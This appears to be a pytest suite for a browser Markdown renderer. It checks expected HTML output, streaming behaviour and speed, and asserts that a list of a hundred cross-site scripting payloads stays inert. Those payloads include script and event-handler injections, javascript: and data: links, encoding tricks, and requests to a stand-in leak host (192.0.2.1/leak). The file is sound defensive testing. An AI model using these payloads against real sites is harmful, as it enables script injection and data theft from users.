"""Markdown as the page shows it: a table of what becomes what, what stays while a text grows, and a hundred attacks."""

import pytest

from tests.serving.browser import Watched
from tests.serving.fakes import Scripted

LINK = '<a href="{0}" target="_blank" rel="noopener noreferrer">{1}</a>'


def link(address, label=None):
    """A link as it is shown: its label, and its address."""
    beside = f'<bdi>{label}</bdi> <span class="address">({address})</span>'
    return LINK.format(address, beside if label else address)


def no_link(address, label):
    return f'<span class="no-link"><bdi>{label}</bdi> <span class="address">({address})</span></span>'


def fenced(code, language=""):
    return (f'<div class="code"><div class="code-head"><span class="code-language">{language}</span></div>'
            f'<pre tabindex="0"><code>{code}</code></pre></div>')  # fmt: skip


def wide(table):
    return f'<div class="wide" tabindex="0"><table>{table}</table></div>'


SHOWN = {
    "plain": "<p>plain</p>",
    "one\ntwo\n\nthree": "<p>one<br>two</p><p>three</p>",
    "# Top": '<h3 class="level-1">Top</h3>',
    "### Third ##": '<h5 class="level-3">Third</h5>',
    "###### six": '<h6 class="level-6">six</h6>',
    "#no heading": "<p>#no heading</p>",
    "# C#": '<h3 class="level-1">C#</h3>',
    "**b** *i* __b__ _i_ ~~d~~": "<p><strong>b</strong> <em>i</em> <strong>b</strong> <em>i</em> <del>d</del></p>",
    "***both***": "<p><em><strong>both</strong></em></p>",
    "**a *b* c**": "<p><strong>a <em>b</em> c</strong></p>",
    "snake_case_name 2 * 3 * 4": "<p>snake_case_name 2 * 3 * 4</p>",
    "**open *and": "<p>**open *and</p>",
    "中文**加粗**字": "<p>中文<strong>加粗</strong>字</p>",
    r"\*plain\* \[x\](y)": "<p>*plain* [x](y)</p>",
    "`a*b*` ``c`d``": "<p><code>a*b*</code> <code>c`d</code></p>",
    "`open": "<p>`open</p>",
    "```python\nx < 1\n\n*y*\n```\nafter": fenced("x &lt; 1\n\n*y*", "python") + "<p>after</p>",
    "~~~\n```\n~~~": fenced("```"),
    "```js\nstill coming": fenced("still coming", "js"),
    "````\n```\n````": fenced("```"),
    "- a\n- b": "<ul><li>a</li><li>b</li></ul>",
    "1. a\n2. b\n   - c\n     - d\n3. e": "<ol><li>a</li><li>b<ul><li>c<ul><li>d</li></ul></li></ul></li>"
    "<li>e</li></ol>",
    "1. a\n  - c": "<ol><li>a<ul><li>c</li></ul></li></ol>",
    "7) a": '<ol start="7"><li>a</li></ol>',
    "* a\n\n* b": "<ul><li>a</li><li>b</li></ul>",
    "- a\n\n  more\n- b": "<ul><li><p>a</p><p>more</p></li><li>b</li></ul>",
    "- a\n  ```\n  x\n  ```": f"<ul><li>a{fenced('x')}</li></ul>",
    "- a\ngoes on\n\nout": "<ul><li>a<br>goes on</li></ul><p>out</p>",
    "> q\n> **r**\n>\n> > s": "<blockquote><p>q<br><strong>r</strong></p><blockquote><p>s</p></blockquote>"
    "</blockquote>",
    "---": "<hr>",
    "* * *": "<hr>",
    "| a | b |\n|---|--:|\n| 1 | *2* |\n| x \\| y |\nend": wide(
        '<thead><tr><th>a</th><th class="right">b</th></tr></thead><tbody><tr><td>1</td>'
        '<td class="right"><em>2</em></td></tr><tr><td>x | y</td><td class="right"></td></tr></tbody>') + "<p>end</p>",
    "a|b\n:-:|-\n": wide('<thead><tr><th class="center">a</th><th>b</th></tr></thead>'),
    "a | b": "<p>a | b</p>",
    "[t](https://x.org/a_b_c)": f"<p>{link('https://x.org/a_b_c', 't')}</p>",
    "[t](http://x.org 'title')": f"<p>{link('http://x.org/', 't')}</p>",
    "see https://x.org/a(b)?c=1.": f"<p>see {link('https://x.org/a(b)?c=1')}.</p>",
    "(https://x.org/a_(b)), or": f"<p>({link('https://x.org/a_(b)')}), or</p>",
    "<https://x.org/>": f"<p>{link('https://x.org/')}</p>",
    "看https://x.org/，好 xhttps://y.org": f"<p>看{link('https://x.org/')}，好 xhttps://y.org</p>",
    "![alt](https://x.org/i.png)": f"<p>{link('https://x.org/i.png', 'alt')}</p>",
    "[t](javascript:alert)": f"<p>{no_link('javascript:alert', 't')}</p>",
    "[t](/local)": f"<p>{no_link('/local', 't')}</p>",
    "[https://good.org](https://bad.org/)": f"<p>{link('https://bad.org/', 'https://good.org')}</p>",
    "<b>x</b> &amp; <!-- y -->": "<p>&lt;b&gt;x&lt;/b&gt; &amp;amp; &lt;!-- y --&gt;</p>",
    "[a][b] [c] (d)": "<p>[a][b] [c] (d)</p>",
    "": "",
}  # fmt: skip

RENDER = """async (texts) => {
    const { renderer } = await import("/markdown.js");
    const shown = (box, text) => { renderer(box)(text); return box.innerHTML; };
    return texts.map((text) => shown(document.createElement("div"), text));
}"""


@pytest.fixture(scope="module")
def watched(browser, running):
    """A page on which Markdown is only rendered."""
    watched = Watched(browser, running.url)
    yield watched
    watched.context.close()
    watched.check_quiet()


def test_what_becomes_what(watched):
    shown = dict(zip(SHOWN, watched.page.evaluate(RENDER, list(SHOWN)), strict=True))
    assert shown == SHOWN


def test_a_text_that_grows_ends_as_the_whole_and_what_is_finished_stays(watched):
    texts = [
        "\n\n".join(SHOWN),
        "# a\n\nb\n\n```py\nc = 1\nd = 2\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n  - y\n\nz",
    ]
    for text in texts:
        grown, whole, kept, code = watched.page.evaluate(
            """async (text) => {
            const { renderer } = await import("/markdown.js");
            const [one, other] = [0, 1].map(() => document.createElement("div"));
            const show = renderer(one);
            let kept = true, code = true;
            for (let end = 0; end <= text.length; end += 3) {
                const before = [...one.children], pre = one.lastChild?.querySelector?.("code");
                show(text.slice(0, end));
                kept &&= before.slice(0, -1).every((node, place) => one.children[place] === node);
                code &&= !pre?.closest(".code") || !text.slice(0, end - 3).includes("py\\n") || one.contains(pre);
            }
            show(text);
            renderer(other)(text);
            return [one.innerHTML, other.innerHTML, kept, code];
        }""",
            text,
        )
        assert grown == whole
    assert kept and code  # of the second text, whose blocks never change what came before them


LONG = ("*a ", "**a*", "[", "[a](", "`", "``a`", "> ", "- ", "\n- a", "| a ", "|-", "<", "_a", "~~", "#", " ",
        "1. ", "\\", "![", "http://a", "(", "\n> ", "\t- x\n")  # fmt: skip


@pytest.mark.parametrize("piece", LONG)
def test_no_text_takes_long(watched, piece):
    took = watched.page.evaluate(
        """async (text) => {
        const { renderer } = await import("/markdown.js"), begun = performance.now();
        renderer(document.createElement("div"))(text);
        return performance.now() - begun;
    }""",
        "| a |\n" + piece * (20_000 // len(piece)) + "x",
    )
    assert took < 2500


# ---- attacks ----

DO = "window.pwned=1"
AWAY = "http://192.0.2.1/leak"
TAGS = [
    f"<script>{DO}</script>",
    f"<script src='{AWAY}.js'></script>",
    f"<img src=x onerror='{DO}'>",
    f"<img src={AWAY}.png>",
    f"<svg onload='{DO}'>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={DO}>'/></svg>",
    f"<iframe src='javascript:parent.{DO}'></iframe>",
    f"<iframe srcdoc='<script>parent.{DO}</script>'></iframe>",
    f"<iframe src='{AWAY}'></iframe>",
    f"<body onload={DO}>",
    f"<input autofocus onfocus={DO}>",
    f"<select autofocus onfocus={DO}>",
    f"<textarea autofocus onfocus={DO}>",
    f"<video><source onerror={DO}>",
    f"<video poster={AWAY}.png>",
    f"<audio src=x onerror={DO}>",
    f"<details open ontoggle={DO}>x</details>",
    f"<marquee onstart={DO}>x</marquee>",
    f"<object data='javascript:{DO}'>",
    f"<object data={AWAY}>",
    f"<embed src='javascript:{DO}'>",
    f"<embed src={AWAY}>",
    f"<form action='javascript:{DO}'><button>x</button></form>",
    f"<button formaction='javascript:{DO}'>x</button>",
    f"<a href='javascript:{DO}'>x</a>",
    f"<a href='{AWAY}' ping='{AWAY}'>x</a>",
    f"<base href='{AWAY}/'>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<link rel=preload href={AWAY} as=image>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<style>@import '{AWAY}.css';</style>",
    f"<style>*{{background:url({AWAY}.png)}}</style>",
    f"<div style='background:url({AWAY}.png)'>x</div>",
    f"<p style='animation:x' onanimationstart={DO}>x</p>",
    f"<math><mi xlink:href='javascript:{DO}'>x</mi></math>",
    f"<table background={AWAY}.png>",
    f"<template><img src=x onerror={DO}></template>",
    f"<xss contenteditable onbeforeinput={DO}>x</xss>",
    f"<noscript><p title='</noscript><img src=x onerror={DO}>'>",
    f"<!--<img src='--><img src=x onerror={DO}>'>",
    f"</textarea><script>{DO}</script>",
    f"</title><script>{DO}</script>",
    f"</p></div><img src=x onerror={DO}>",
    f"<ScRiPt>{DO}</sCrIpT>",
    f"<script\x00>{DO}</script>",
    f"<img/src=x/onerror={DO}>",
    f"<<script>{DO}//<</script>",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;img src=x onerror={DO}&#62;",
    f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e",
    f"\u202e<script>{DO}</script>",
    f"\ufeff<img src=x onerror={DO}>",
    f"{{{{constructor.constructor('{DO}')()}}}}",
    f"${{{DO}}}",
]
SCHEMES = [
    f"javascript:{DO}",
    f"JaVaScRiPt:{DO}",
    f"java\tscript:{DO}",
    f"java&#x0A;script:{DO}",
    f"&#106;avascript:{DO}",
    f"%6aavascript:{DO}",
    f"\x01javascript:{DO}",
    f"javascript://x.org/%0a{DO}",
    f"vbscript:{DO}",
    f"data:text/html,<script>{DO}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    f"blob:{AWAY}",
    "file:///etc/passwd",
    "about:blank",
    "//192.0.2.1/leak",
    "/v1/models",
    "ftp://192.0.2.1/leak",
    f"view-source:{AWAY}",
    "http:192.0.2.1",
    "https:///",
]
MARKDOWN = [
    *(f"[x]({address})" for address in SCHEMES),
    f"![x]({AWAY}.png)",
    f'![x](x"onerror="{DO})',
    f"[![x]({AWAY}.png)]({AWAY})",
    f'[x]({AWAY}"onmouseover="{DO})',
    f"[x]: {AWAY}\n\n[x]",
    f"![x][y]\n\n[y]: {AWAY}.png",
    f'<{AWAY}"onclick={DO}>',
    f"<javascript:{DO}>",
    f'{AWAY}"><img/src=x/onerror={DO}>',
    f"[<img src=x onerror={DO}>]({AWAY})",
    f"`<img src=x onerror={DO}>`",
    f"```html\n<script>{DO}</script>\n```",
    f'```"><img src=x onerror={DO}>\nx\n```',
    f"# <img src=x onerror={DO}>",
    f"- <img src=x onerror={DO}>",
    f"> <script>{DO}</script>",
    f"| <img src=x onerror={DO}> | b |\n|---|---|\n| <script>{DO}</script> | [x](javascript:{DO}) |",
    f"**<img src=x onerror={DO}>**",
    f"~~<svg/onload={DO}>~~",
    f"[x](<javascript:{DO}>)",
    f'[a](javascript:{DO} "title")',
    f"1. ```\n   <script>{DO}</script>\n   ```",
    f"\\<script\\>{DO}\\</script\\>",
    "[__proto__](constructor)",
]
PAYLOADS = TAGS + MARKDOWN

CHECK = """() => {
    const tags = new Set(("p br h3 h4 h5 h6 hr strong em del code pre ul ol li blockquote table thead tbody tr th td " +
        "div span a bdi button svg path").split(" "));
    const names = new Set(("class href target rel tabindex start type aria-label title data-word viewBox aria-hidden " +
        "d").split(" "));
    const wrong = [];
    for (const node of document.querySelectorAll(".said *, .answer *, .mirror *, .under-test *")) {
        const fine = tags.has(node.tagName.toLowerCase()) && [...node.attributes].every(({ name }) => names.has(name));
        const outside = /^https?:[/][/]/.test(node.getAttribute("href")) && node.rel === "noopener noreferrer";
        const link = node.tagName !== "A" || (outside && node.target === "_blank");
        if (!fine || !link) wrong.push(node.outerHTML.slice(0, 200));
    }
    const loaders = document.querySelectorAll("main img, main iframe, main object, main embed, main link, main style");
    return [wrong, window.pwned ?? null, document.querySelectorAll("script").length, loaders.length];
}"""


def assert_inert(watched):
    wrong, pwned, scripts, loaders = watched.page.evaluate(CHECK)
    assert wrong == [] and pwned is None and scripts == 1 and loaders == 0
    watched.check_quiet()


def test_S7_a_hundred_attacks_stay_letters(visit):
    assert len(set(PAYLOADS)) == 100
    words = tuple(payload + "\n\n" for payload in PAYLOADS)
    backend = Scripted(words=words)
    watched = visit(backend)
    page = watched.page
    page.on("dialog", lambda dialog: watched.problems.append("a dialog"))

    watched.write("A")
    assert watched.mirrored == "A" + "".join(words).replace("\r", "")
    assert_inert(watched)

    watched.tab("chat")
    for payload in (TAGS[0], TAGS[2], MARKDOWN[0]):  # as what one types, which becomes a title too
        watched.say(payload)
        page.click("#chat-new")
    watched.say("go")
    said = page.text_content(".turn.assistant .said")
    for payload in TAGS[:40]:
        assert payload in said
    for node in page.locator(".turn.assistant a").all()[:3]:
        node.hover()
    assert_inert(watched)

    # Each alone, as a whole and letter by letter.
    page.evaluate(
        """async (payloads) => {
        const { renderer } = await import("/markdown.js");
        for (const payload of payloads) {
            const box = document.createElement("div");
            box.className = "under-test";
            document.querySelector("main").append(box);
            const show = renderer(box);
            for (let end = 1; end <= payload.length; end++) show(payload.slice(0, end));
        }
        await new Promise((done) => setTimeout(done, 300));
    }""",
        PAYLOADS,
    )
    assert page.locator(".under-test").count() == 100
    assert_inert(watched)
